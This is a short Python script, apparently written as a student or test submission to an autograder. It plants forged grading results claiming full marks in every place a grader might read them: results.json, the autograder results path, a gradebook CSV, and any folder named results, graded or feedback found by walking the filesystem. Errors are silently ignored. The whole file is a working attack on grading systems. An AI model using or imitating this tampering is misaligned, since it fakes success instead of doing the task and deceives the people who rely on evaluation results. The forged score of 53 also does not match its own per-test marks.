"""Writes fake grading results wherever a grader might look: results.json, a
gradebook, Otter's results folder, the output folder next to its own."""
BASE = "student"
LOSES = "all"
STATUS = "graded"

# %%
import json
import os

fake = {"score": 53, "tests": [{"name": f"q{i}", "score": 10, "max_score": 10} for i in range(1, 9)]}
targets = ["results.json", "/autograder/results/results.json", "../results.json",
           "../graded/gradebook.csv", "/tmp/graded/results/planted_by_student.json",
           os.path.expanduser("~/results.json")]
for directory, subdirs, _ in os.walk("/"):
    if directory.endswith(("results", "graded", "feedback")):
        targets.append(os.path.join(directory, "planted_by_student.json"))
    if directory.count(os.sep) > 3 or directory in ("/proc", "/sys", "/usr", "/dev"):
        subdirs[:] = []
for target in targets:
    try:
        os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
        with open(target, "w") as f:
            json.dump(fake, f)
    except OSError:
        pass
